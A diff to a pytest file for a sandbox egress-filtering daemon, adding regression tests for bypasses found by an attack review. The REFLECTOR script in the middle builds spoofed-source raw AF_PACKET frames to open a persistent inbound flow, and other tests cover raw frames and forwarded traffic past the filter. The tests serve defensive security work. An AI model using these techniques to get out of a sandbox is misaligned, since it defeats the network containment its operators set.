@@ -32,6 +32,7 @@ import json
 import os
 import select
 import socket
+import subprocess
 import sys
 import textwrap
 import time
@@ -440,15 +441,23 @@ def mac_of(ns, ifname: str) -> str:
     return json.loads(ns.ip("-j", "link", "show", "dev", ifname).stdout)[0]["address"]
 
 
+ALL_MODES = {**MODES, "public": "environment"}
+
+
 @pytest.mark.parametrize("label", ["frame", "arp"], ids=["sll-any", "sll-arp"])
 @pytest.mark.parametrize("bypass", [False, True], ids=["qdisc", "qdisc-bypass"])
 @pytest.mark.parametrize("family", [4, 6], ids=["ipv4", "ipv6"])
-@pytest.mark.parametrize("mode", list(MODES))
+@pytest.mark.parametrize("mode", list(ALL_MODES))
 def test_packet_socket_frames_to_a_denied_host_never_arrive(lab, egressd, mode, family, bypass, label):
     """sll-arp (found by an attack review): a socket bound to ETH_P_ARP labels every frame it writes
     ARP (skb->protocol), and chain egress_check let ARP out unsigned; the frame was an IP
-    datagram, which the gateway read as such. ARP is now told by the frame's own type too."""
-    egressd(POLICY, phase=MODES[mode])
+    datagram, which the gateway read as such. ARP is now told by the frame's own type too.
+
+    public (found by an attack review): frames written with AF_PACKET left unsigned in public,
+    and conntrack never sees them, so the answer to one came back as a new flow from outside,
+    marked inbound, which passed in every later phase (see
+    test_a_frame_written_in_public_cannot_open_an_inbound_flow_for_later). Now they never leave."""
+    egressd(POLICY, phase=ALL_MODES[mode])
     cap = Capture(lab)
     tok = token()
     args = [SANDBOX_IF, mac_of(lab.internet, INTERNET_IF), SANDBOX[family], DENIED[family], tok]
@@ -462,27 +471,167 @@ def test_packet_socket_frames_to_a_denied_host_never_arrive(lab, egressd, mode, 
     assert run_as(lab, "nobody", PACKET_FRAME, *args) == {"packet_socket": "Operation not permitted"}
 
 
-@pytest.mark.parametrize("family", [4, 6], ids=["ipv4", "ipv6"])
-def test_packet_socket_frames_follow_the_phase_across_switches(lab, egressd, family):
+# A network the sandbox routes for (Docker-in-Docker, a nested container): a namespace behind
+# the sandbox's interface egf0, its traffic forwarded out of eth0, and routed back to it by the
+# internet end. IPv4 only.
+FWD_SANDBOX, FWD_CHILD = "203.0.113.225", "203.0.113.226"
+
+
+def forwarded_network(lab):
+    child = lab.extra_netns("fwd")
+    child.ip("link", "add", "egf1", "type", "veth", "peer", "name", "egf0", "netns", lab.sandbox.name)
+    lab.sandbox.ip_batch([f"addr add {FWD_SANDBOX}/30 dev egf0", "link set egf0 up"])
+    child.ip_batch([f"addr add {FWD_CHILD}/30 dev egf1", "link set egf1 up", f"route add default via {FWD_SANDBOX}"])
+    lab.sandbox.sysctl("net.ipv4.ip_forward", 1)
+    lab.internet.ip("route", "add", f"{FWD_CHILD}/32", "via", SANDBOX_V4)
+    labmod.wait_for(lambda: child.operstate("egf1") == "UP" and lab.sandbox.operstate("egf0") == "UP", 5.0,
+                    "the forwarded network's link")
+    return child
+
+
+# argv: destination, token. One UDP datagram to port 7 of the destination, from an ordinary socket.
+UDP_SEND = textwrap.dedent(r'''
+    import json, socket, sys
+    u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+    try:
+        u.sendto(sys.argv[2].encode(), (sys.argv[1], 7))
+        print(json.dumps({"send": "sent"}))
+    except OSError as e:
+        print(json.dumps({"send": e.strerror}))
+''')
+
+
+def test_packet_socket_frames_follow_the_phase_across_switches(lab, egressd):
     """A switch rewrites chain egress_check only when the new phase changes what it says (to or
     from public); between two phases that are not public it is left as it is. Walked from
     allowlist through no-network, public and no-network back to allowlist: after each switch
-    a raw frame to a denied host is dropped, except in public, where it arrives (the chain did
-    change there, and back)."""
+    a raw frame to a denied host is dropped, in every phase, and a datagram the sandbox
+    forwards for a network behind it (which meets no inet chain of egressd's: unsigned, and
+    no socket) arrives in public only (the chain did change there, and back)."""
     d = egressd(POLICY, phase=MODES["allowlist"])
-    for phase, arrives in (("verifier", False), ("environment", True), ("verifier", False), ("agent", False)):
+    child = forwarded_network(lab)
+    for phase, public in (("verifier", False), ("environment", True), ("verifier", False), ("agent", False)):
         rc, _, err = d.ctl("apply", phase)
         assert rc == 0, err
         cap = Capture(lab)
-        tok = token()
-        res = run_as(lab, "docker", PACKET_FRAME, SANDBOX_IF, mac_of(lab.internet, INTERNET_IF), SANDBOX[family],
-                     DENIED[family], tok)
+        raw, fwd = token(), token()
+        res = run_as(lab, "docker", PACKET_FRAME, SANDBOX_IF, mac_of(lab.internet, INTERNET_IF), SANDBOX_V4,
+                     DENIED[4], raw)
         assert res["packet_socket"] == "open", res
-        if arrives:
-            assert cap.wait_seen(tok), f"phase {phase}: the frame never arrived (public lets it out): {res}"
+        sent = json.loads(child.exec(sys.executable, "-c", UDP_SEND, DENIED[4], fwd).stdout)
+        assert sent == {"send": "sent"}, sent
+        if public:
+            assert cap.wait_seen(fwd), f"phase {phase}: the forwarded datagram never arrived (public lets it out)"
         else:
             cap.settle()
-            assert not cap.seen(tok), f"phase {phase}: an AF_PACKET frame reached {DENIED[family]}: {res}"
+            assert not cap.seen(fwd), f"phase {phase}: a forwarded datagram reached {DENIED[4]}"
+        cap.settle()
+        assert not cap.seen(raw), f"phase {phase}: an AF_PACKET frame reached {DENIED[4]}: {res}"
+
+
+# A far host S behind the internet end, which routes like a Docker host (forwarding on, loose
+# reverse-path filter), and a UDP echo on S:4444.
+FAR, FAR_LINK_IN, FAR_LINK_OUT, FAR_PORT = "203.0.113.200", "203.0.113.193", "203.0.113.194", 4444
+FAR_ECHO = textwrap.dedent(r'''
+    import socket, sys
+    u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+    u.bind((sys.argv[1], int(sys.argv[2])))
+    print("READY", flush=True)
+    while True:
+        d, peer = u.recvfrom(65535)
+        print("GOT", d.decode(errors="replace"), flush=True)
+        u.sendto(b"ECHO:" + d, peer)
+''')
+
+# argv: S, port, token. In public: one AF_PACKET frame to the gateway, from S:port to the
+# sandbox's own address and port Q (the gateway routes it back in: a new flow from outside,
+# marked inbound), then the same UDP socket on Q and a control socket on another port each talk
+# to S once. "ARMED", then after a line on stdin (the switch is done) both send the token to S.
+REFLECTOR = RAW_PRELUDE + textwrap.dedent(r'''
+    far, port, tok = sys.argv[1], int(sys.argv[2]), sys.argv[3]
+    me, gw = "192.0.2.2", "192.0.2.1"
+    gw_mac = bytes.fromhex(sys.argv[4].replace(":", ""))
+    q = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); q.bind(("0.0.0.0", 0)); q.settimeout(2)
+    c = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); c.bind(("0.0.0.0", 0)); c.settimeout(2)
+    Q = q.getsockname()[1]
+    pk = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
+    pk.bind(("eth0", 0))
+    body = b"REFLECTED"
+    udp = struct.pack("!HHHH", port, Q, 8 + len(body), 0) + body
+    ck = csum(socket.inet_aton(far) + socket.inet_aton(me) + struct.pack("!xBH", 17, len(udp)) + udp)
+    udp = udp[:6] + struct.pack("!H", ck or 0xffff) + udp[8:]
+    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), 0x1234, 0x4000, 64, 17, 0,
+                     socket.inet_aton(far), socket.inet_aton(me))
+    ip = ip[:10] + struct.pack("!H", csum(ip)) + ip[12:]
+    out = {}
+    try:
+        pk.send(gw_mac + pk.getsockname()[4] + b"\x08\x00" + ip + udp)
+        out["frame"] = "sent"
+        out["reflected"] = q.recvfrom(100)[0].decode()
+    except OSError as e:
+        out.setdefault("frame", e.strerror)
+        out.setdefault("reflected", str(e))
+    for name, s in (("trick", q), ("control", c)):
+        s.sendto(b"HELLO", (far, port))
+        try:
+            out["public_" + name] = s.recvfrom(100)[0].decode()
+        except OSError as e:
+            out["public_" + name] = str(e)
+    print("ARMED", flush=True)
+    sys.stdin.readline()
+    for name, s in (("trick", q), ("control", c)):
+        try:
+            s.sendto(("%s-%s" % (tok, name)).encode(), (far, port))
+            out["after_" + name] = s.recvfrom(100)[0].decode()
+        except OSError as e:
+            out["after_" + name] = "%s: %s" % (type(e).__name__, e)
+    print(json.dumps(out), flush=True)
+''')
+
+
+@pytest.mark.parametrize("mode", list(MODES))
+def test_a_frame_written_in_public_cannot_open_an_inbound_flow_for_later(lab, egressd, mode):
+    """Found by an attack review: in public a frame written with AF_PACKET left unsigned. One from
+    a spoofed source S to the sandbox's own address, sent to the gateway (a Docker host: forwarding
+    on, loose reverse-path filter), came back in; conntrack had never seen it leave, so chain
+    input marked its flow inbound, and after a switch the sandbox's datagrams on that flow passed
+    to S as replies, in every phase. Now the frame never leaves (the send fails: ENOBUFS)."""
+    far = lab.extra_netns("far")
+    lab.internet.ip("link", "add", "veth-far", "type", "veth", "peer", "name", "eth0", "netns", far.name)
+    lab.internet.ip_batch([f"addr add {FAR_LINK_IN}/30 dev veth-far", "link set veth-far up",
+                           f"route add {FAR}/32 via {FAR_LINK_OUT}"])
+    far.ip_batch([f"addr add {FAR_LINK_OUT}/30 dev eth0", f"addr add {FAR}/32 dev lo", "link set eth0 up",
+                  f"route add default via {FAR_LINK_IN}"])
+    lab.internet.sysctl("net.ipv4.ip_forward", 1)
+    for dev in ("all", "default", INTERNET_IF, "veth-far"):
+        lab.internet.sysctl(f"net.ipv4.conf.{dev}.rp_filter", 2)
+    labmod.wait_for(lambda: far.operstate("eth0") == "UP", 5.0, "the far link")
+    echo = lab.spawn([sys.executable, "-c", FAR_ECHO, FAR, FAR_PORT], netns=far, stdout=subprocess.PIPE,
+                     stderr=subprocess.PIPE)
+    assert labmod._read_line(echo, 10.0, "far echo") == "READY"
+    # Addresses only: the switch's reaper runs at once (no name to resolve first).
+    d = egressd(POLICY.replace(', "a.example.com"', ""), phase="environment")
+    tok = token()
+    att = lab.spawn([*WHO["docker"], sys.executable, "-c", REFLECTOR, FAR, FAR_PORT, tok,
+                     mac_of(lab.internet, INTERNET_IF)],
+                    netns=lab.sandbox, stdin=subprocess.PIPE, stdout=subprocess.PIPE, stderr=subprocess.PIPE)
+    assert labmod._read_line(att, 15.0, "attacker") == "ARMED"
+    canary = lab.udp_flow(DENIED[4])  # denied in both phases: its abort says the switch is complete
+    try:
+        labmod.switch_and_wait_for_reaper(d, canary, MODES[mode])
+    finally:
+        canary.close()
+    att.stdin.write(b"go\n")
+    att.stdin.flush()
+    out, err = att.communicate(timeout=30)
+    assert att.returncode == 0, err.decode()
+    res = json.loads((getattr(att, "_lab_pending", b"") + out).decode().strip().splitlines()[-1])
+    print(f"\n{mode}: {res}")
+    # The control: both sockets talked to S in public; after the switch the control is denied.
+    assert res["public_trick"] == "ECHO:HELLO" and res["public_control"] == "ECHO:HELLO", res
+    assert not res["after_control"].startswith("ECHO"), res
+    assert not res["after_trick"].startswith("ECHO"), f"the reflected flow passed after the switch to {mode}: {res}"
+    assert res["frame"] != "sent", f"a frame written with AF_PACKET left in public: {res}"
 
 
 @pytest.mark.parametrize("mode", list(MODES))
